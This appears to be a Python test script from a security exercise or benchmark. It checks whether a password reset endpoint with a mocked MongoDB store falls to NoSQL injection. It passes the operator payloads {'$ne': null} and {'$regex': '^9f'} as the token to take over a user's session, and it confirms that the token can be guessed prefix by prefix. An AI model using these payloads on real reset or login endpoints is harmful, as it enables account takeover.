"""An operator in place of the token (steps 2 and 3), and one that asks letter by letter (step 4).

samples: bad 1, good 1
"""

import json

from attack import attack, load, quoted, use
from pymongo import MongoClient

MongoClient.kept = {"shop": {"users": [{"email": "anna@shop.example", "reset_token": "9f2c"}, {"email": "bob@shop.example"}]}}
app = load(start_session=lambda user: f"session of {user['email']}").app


def reset(token, email="anna@shop.example"):
    """The answer to somebody with this token."""
    answer = app.test_client().post("/reset", json={"email": email, "token": token})
    return answer.status_code, answer.get_json() if answer.status_code == 200 else None


use([reset("9f2c"), reset("0000")[0]])
answers = [reset(token) for token in map(json.loads, (quoted('{"$ne": null}'), quoted('{"$regex": "^9f"}')))]
anna = 200, {"session": "session of anna@shop.example"}
attack(answers == [anna, anna], answers)
if anna in answers and reset({"$regex": "^00"})[0] == 200:
    raise SystemExit("the letters tell nothing")
